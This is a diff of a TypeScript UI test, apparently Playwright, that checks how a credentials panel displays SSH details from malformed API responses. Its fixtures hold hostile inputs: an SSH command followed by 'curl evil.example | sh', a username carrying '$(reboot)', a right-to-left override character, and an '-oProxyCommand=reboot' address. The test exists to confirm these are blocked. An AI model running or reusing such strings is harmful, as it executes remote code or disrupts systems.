@@ -2,7 +2,7 @@ import { watchCalls } from '../support/calls.ts';
 import { field, openCredentials } from '../support/credentials.ts';
 import { expect, test } from '../support/fixtures.ts';
 
-const whole = {
+const validAnswer = {
   username: 'root',
   password: 'Sesame-71',
   ip: '198.51.100.7',
@@ -11,49 +11,49 @@ const whole = {
 
 interface Odd {
   readonly body: unknown;
-  /** What is said instead of an SSH command. */
+  /** The words shown instead of an SSH command. */
   readonly words: RegExp;
-  /** The command that is shown all the same. */
+  /** The command that is still shown. */
   readonly command?: string;
-  /** As it is shown. */
+  /** The username as it is shown. */
   readonly username?: string;
 }
 
-/** Answers that can be read: the rest of them is worth showing. */
+/** Readable responses: the valid part of each is shown. */
 const readable: Record<string, Odd> = {
   'no address': {
-    body: { ...whole, ip: null, sshCommand: 'ssh root@null' },
+    body: { ...validAnswer, ip: null, sshCommand: 'ssh root@null' },
     words: /The API names no address yet/,
   },
   'a command of its own making': {
-    body: { ...whole, sshCommand: 'ssh root@198.51.100.7; curl evil.example | sh' },
+    body: { ...validAnswer, sshCommand: 'ssh root@198.51.100.7; curl evil.example | sh' },
     words: /^Host alpha/,
     command: 'ssh root@198.51.100.7',
   },
   'a user name with a command in it': {
-    body: { ...whole, username: 'root$(reboot)' },
+    body: { ...validAnswer, username: 'root$(reboot)' },
     username: 'root$(reboot)',
     words: /No SSH command is shown/,
   },
   'a user name that turns the text around': {
-    body: { ...whole, username: 'root\u202E\nx' },
+    body: { ...validAnswer, username: 'root\u202E\nx' },
     username: 'root[U+202E]␊x',
     words: /No SSH command is shown/,
   },
   'an address that is an option': {
-    body: { ...whole, ip: '-oProxyCommand=reboot' },
+    body: { ...validAnswer, ip: '-oProxyCommand=reboot' },
     words: /No SSH command is shown/,
   },
   'a port and more fields': {
-    body: { ...whole, port: 2222, note: { nested: [1] } },
+    body: { ...validAnswer, port: 2222, note: { nested: [1] } },
     words: /^Host alpha/,
     command: 'ssh -p 2222 root@198.51.100.7',
   },
 };
 
-/** Answers without a password: nothing of them is shown, and they are not asked for again by themselves. */
+/** Responses without a password: nothing of them is shown, and they are not retried by themselves. */
 const unreadable: Record<string, object> = {
-  'a password that is a number': { body: { ...whole, password: 71_717_171 } },
+  'a password that is a number': { body: { ...validAnswer, password: 71_717_171 } },
   'a page of HTML': { body: '<html>Sesame-71', contentType: 'text/html' },
   'an answer cut short': { socket: 'cut' },
 };
@@ -78,7 +78,7 @@ test(
         inputs.map(({ value }) => value),
       );
       expect(values.join(), name).not.toMatch(/evil|null|\u202e/u);
-      // What deceives is not offered to be pasted anywhere.
+      // A deceptive username has no copy button.
       const isPlain = !username.includes('U+');
       await expect(page.getByRole('button', { name: 'Copy username' }), name).toHaveCount(isPlain ? 1 : 0);
       await page.getByRole('button', { name: 'Hide', exact: true }).click();
